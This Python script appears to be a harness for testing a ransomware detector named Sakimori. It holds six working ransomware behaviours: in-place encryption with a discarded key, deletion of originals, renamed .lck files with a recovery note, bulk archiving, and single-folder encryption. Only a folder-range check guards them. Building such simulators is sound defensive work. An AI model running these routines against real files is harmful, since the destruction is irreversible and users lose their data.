#!/usr/bin/env python3
"""Harmless attackers in a trusted interpreter: scripted.py SHAPE FOLDER.  Only below folders that range.py made; no network; nothing stays.
The keystream is a hash in counter mode with a key that is thrown away."""
import base64, hashlib, os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from range import is_range  # noqa: E402

MOST = 20000


def keystream(data, seed):
    stream = b''.join(hashlib.blake2b(seed + i.to_bytes(8, 'little')).digest() for i in range(len(data) // 64 + 1))
    return (int.from_bytes(data, 'little') ^ int.from_bytes(stream[:len(data)], 'little')).to_bytes(len(data), 'little')


def files(folder):
    out = []
    for at, _, names in sorted(os.walk(folder)):
        out += [os.path.join(at, n) for n in sorted(names) if n != '.sakimori-range']
    return out[:MOST]


def read(path):
    with open(path, 'rb') as f:
        return f.read()


def write(path, data):
    with open(path, 'wb') as f:
        f.write(data)


def python(folder, key):
    for p in files(folder):
        write(p, keystream(read(p), key + os.fsencode(p)))


def letters(folder, key):
    for p in files(folder):
        write(p + '.b64', base64.encodebytes(keystream(read(p), key + os.fsencode(p))))
        os.unlink(p)


def notes(folder, key):
    """A note in each folder, other names, originals gone."""
    for p in files(folder):
        at = os.path.dirname(p)
        write(os.path.join(at, hashlib.sha1(os.fsencode(p)).hexdigest() + '.lck'), keystream(read(p), key + os.fsencode(p)))
        os.unlink(p)
        write(os.path.join(at, 'HOW_TO_RECOVER.txt'), b'Everything is locked. This is a test of Sakimori.\n')


def read_all_first(folder, key):
    held = [(p, keystream(read(p), key + os.fsencode(p))) for p in files(folder)]
    for p, data in held:
        write(p, data)


def archive_by_hand(folder, key):
    """One unreadable file of everything, then all originals at once: nothing is opened meanwhile."""
    all_ = files(folder)
    with open(os.path.join(folder, 'archive.bin'), 'wb') as out:
        for p in all_:
            out.write(keystream(read(p), key + os.fsencode(p)))
    for p in all_:
        os.unlink(p)


def one_folder(folder, key):
    most = max((at for at, _, _ in os.walk(folder)), key=lambda at: len(os.listdir(at)))
    for p in [os.path.join(most, n) for n in sorted(os.listdir(most))]:
        if os.path.isfile(p) and not p.endswith('.sakimori-range'):
            write(p, keystream(read(p), key + os.fsencode(p)))


SHAPES = {f.__name__: f for f in (python, letters, notes, read_all_first, archive_by_hand, one_folder)}
if __name__ == '__main__':
    if len(sys.argv) != 3 or sys.argv[1] not in SHAPES:
        sys.exit(f'scripted.py {"|".join(SHAPES)} FOLDER')
    if not is_range(sys.argv[2]):
        sys.exit(f'{sys.argv[2]} is not a folder made for this')
    SHAPES[sys.argv[1]](sys.argv[2], os.urandom(32))
